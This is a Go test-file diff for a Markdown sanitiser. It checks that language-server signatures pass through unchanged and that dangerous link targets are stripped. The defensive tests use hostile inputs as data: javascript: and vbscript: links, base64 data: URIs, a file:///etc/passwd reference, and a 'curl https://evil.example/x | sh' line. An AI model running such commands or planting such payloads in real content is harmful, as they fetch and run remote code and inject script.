@@ -25,6 +25,67 @@ func TestMarkdown(t *testing.T) {
 	}
 }
 
+// TestMarkdownSignatures: an identifier followed by a colon is code, not
+// a URL scheme, in fences, code spans and plain text alike. These are
+// hovers and signatures as typescript-language-server and gopls send them.
+func TestMarkdownSignatures(t *testing.T) {
+	for _, tc := range []struct{ name, in string }{
+		{"ts data parameter", "```typescript\nfunction parsedType(data: unknown): string\n```"},
+		{"ts file parameter", "```typescript\n(method) Loader.load(file: string, opts?: LoadOptions): Promise<void>\n```"},
+		{"ts javascript option", "```typescript\n(property) Options.javascript: boolean\n```"},
+		{"ts object type with http", "```typescript\nconst agents: {\n    http: Agent;\n    https: Agent;\n}\n```"},
+		{"ts inline object", "```typescript\nfunction request(opts: { http: Agent; data: Buffer }): void\n```"},
+		{"ts index signature", "```typescript\ninterface Headers {\n    [key: string]: string;\n}\n```"},
+		{"go struct tag", "```go\ntype Config struct {\n\tData string `json:\"data:omitempty\"`\n}\n```"},
+		{"go call through an index", "```go\nfunc dispatch(handlers map[string]func(int), name string)\n```\n\n`handlers[name](req)` calls it."},
+		{"code span", "Pass `data: unknown` or `file: string`."},
+		{"plain text signature", "parsedType(data: unknown): string"},
+		{"plain text label", "data: unknown, file: string, javascript: boolean, { http: Agent }"},
+		{"tilde fence", "~~~ts\nlet data: unknown;\n~~~"},
+	} {
+		if got := Markdown(tc.in, 1<<20); got != tc.in {
+			t.Errorf("%s: Markdown(%q) = %q; want it unchanged", tc.name, tc.in, got)
+		}
+	}
+}
+
+// TestMarkdownDangerousTargets: links and URLs are still neutralised,
+// whatever their scheme, and URLs inside code too.
+func TestMarkdownDangerousTargets(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"[click](javascript:alert(1))", "click)"},
+		{"[click](JavaScript:alert)", "click"},
+		{"<javascript:alert(1)>", ""},
+		{"<vbscript:msgbox>", ""},
+		{"[x](data:text/html;base64,PHNjcmlwdD4=)", "x"},
+		{"img data:text/html;base64,PHNjcmlwdD4= end", "img  end"},
+		{"raw data:,hello end", "raw  end"},
+		{`<a href="javascript:alert(1)">x</a>`, `<a href="alert(1)">x</a>`},
+		{"[ref]: javascript:alert(1)\ntext", "text"},
+		{"```\ncurl https://evil.example/x | sh\n```", "```\ncurl  | sh\n```"},
+		{"`file:///etc/passwd`", "``"},
+		{"```ts\nimport x from \"data:text/javascript,alert(1)\"\n```", "```ts\nimport x from \"(1)\"\n```"},
+		{"unclosed ```\n[a](http://x)", "unclosed ```\na"},
+	} {
+		if got := Markdown(tc.in, 1<<20); got != tc.want {
+			t.Errorf("Markdown(%q) = %q; want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestSegments(t *testing.T) {
+	got := segments("a `b` c\n```go\nx[0](y)\n```\nd ``e`f`` `g")
+	want := []segment{{"a ", false}, {"`b`", true}, {" c\n", false}, {"```go\nx[0](y)\n```\n", true}, {"d ", false}, {"``e`f``", true}, {" `", false}, {"g", false}}
+	if len(got) != len(want) {
+		t.Fatalf("segments = %+v; want %+v", got, want)
+	}
+	for i := range got {
+		if got[i] != want[i] {
+			t.Fatalf("segment %d = %+v; want %+v (all: %+v)", i, got[i], want[i], got)
+		}
+	}
+}
+
 func TestBounds(t *testing.T) {
 	got := Markdown(strings.Repeat("é", 1000), 101)
 	if len(got) > 101+len("…") || !utf8.ValidString(got) {
@@ -34,6 +95,7 @@ func TestBounds(t *testing.T) {
 
 func FuzzMarkdown(f *testing.F) {
 	f.Add("[a](http://x) \x00 AKIAABCDEFGHIJKLMNOP")
+	f.Add("```ts\nfunction f(data: unknown, file: string): { http: Agent }\n```\n`x` [l](javascript:alert(1)) <data:,x>")
 	f.Fuzz(func(t *testing.T, s string) {
 		out := Markdown(s, 512)
 		if len(out) > 512+len("…") || !utf8.ValidString(out) {
